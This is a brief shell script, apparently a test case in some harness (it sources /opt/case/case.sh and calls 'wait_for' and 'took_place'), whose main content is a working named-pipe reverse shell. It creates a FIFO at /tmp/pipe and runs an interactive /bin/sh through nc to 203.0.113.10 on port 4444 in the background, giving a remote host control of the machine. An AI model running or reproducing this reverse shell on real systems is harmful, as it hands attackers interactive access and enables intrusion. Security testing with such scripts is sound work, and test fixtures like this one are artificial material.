#!/bin/sh
. /opt/case/case.sh

mkfifo /tmp/pipe
(/bin/sh -i </tmp/pipe 2>&1 | nc 203.0.113.10 4444 >/tmp/pipe) &
wait_for /tmp/reached
took_place
